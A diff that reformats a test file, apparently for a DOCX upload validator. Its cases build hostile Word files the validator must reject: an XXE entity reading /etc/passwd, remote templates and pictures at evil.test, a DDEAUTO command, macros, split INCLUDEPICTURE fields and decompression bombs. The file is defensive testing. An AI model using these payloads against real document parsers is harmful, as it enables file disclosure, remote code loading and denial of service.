@@ -113,28 +113,54 @@ describe('a DOCX file is refused', () => {
     ['with XML that is not well-formed', () => docx('', document('<w:document><w:body>')), /not well-formed/],
     [
       'with a DOCTYPE, which could load files',
-      () => docx('', document(`<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document ${main}>&e;</w:document>`)),
+      () =>
+        docx(
+          '',
+          document(`<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document ${main}>&e;</w:document>`),
+        ),
       /DOCTYPE, which is not allowed/,
     ],
-    ['with a remote template', () => docx('', external('attachedTemplate', 'http://evil.test/t.dotm')), /loads attachedTemplate from outside/],
+    [
+      'with a remote template',
+      () => docx('', external('attachedTemplate', 'http://evil.test/t.dotm')),
+      /loads attachedTemplate from outside/,
+    ],
     ['with a remote picture', () => docx('', external('image', 'http://evil.test/p.png')), /loads image from outside/],
-    ['with a link to a file', () => docx('', external('hyperlink', 'file:///etc/passwd')), /loads hyperlink from outside/],
+    [
+      'with a link to a file',
+      () => docx('', external('hyperlink', 'file:///etc/passwd')),
+      /loads hyperlink from outside/,
+    ],
     ['with macros', () => docx('', { 'word/vbaProject.bin': 'x' }), /macros/],
     [
       'with a field that loads a file, split into runs',
-      () => docx('<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.test"</w:instrText></w:r></w:p>'),
+      () =>
+        docx(
+          '<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil.test"</w:instrText></w:r></w:p>',
+        ),
       /field "INCLUDEPICTURE "http:\/\/evil.test"" loads other files/,
     ],
     ['with a command of DDE', () => docx('<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\a b"/></w:p>'), /DDEAUTO/],
     ['that embeds another format', () => docx('<w:altChunk/>'), /embeds a document/],
-    ['that unpacks to far more bytes', () => docx(paragraph('a'), { 'word/big.xml': `<a>${' '.repeat(40 * 1024 * 1024)}</a>` }), /too large|too long/],
+    [
+      'that unpacks to far more bytes',
+      () => docx(paragraph('a'), { 'word/big.xml': `<a>${' '.repeat(40 * 1024 * 1024)}</a>` }),
+      /too large|too long/,
+    ],
     [
       'that unpacks to more XML than is allowed',
-      () => docx(paragraph('a'), { 'word/big.xml': `<a>${Array.from({ length: 900_000 }, (_, at) => `<b c="${at * 7919}"/>`).join('')}</a>` }),
+      () =>
+        docx(paragraph('a'), {
+          'word/big.xml': `<a>${Array.from({ length: 900_000 }, (_, at) => `<b c="${at * 7919}"/>`).join('')}</a>`,
+        }),
       /too large when it is unpacked/,
     ],
     ['with elements nested too deeply', () => docx('<w:p>'.repeat(1000) + '</w:p>'.repeat(1000)), /nested too deeply/],
-    ['with too many parts', () => zipOf(Object.fromEntries(Array.from({ length: 2500 }, (_, at) => [`${at}.xml`, '']))), /more than 2000 parts/],
+    [
+      'with too many parts',
+      () => zipOf(Object.fromEntries(Array.from({ length: 2500 }, (_, at) => [`${at}.xml`, '']))),
+      /more than 2000 parts/,
+    ],
   ]
   for (const [name, file, expected] of cases) {
     it(name, { timeout: 60_000 }, async () => {
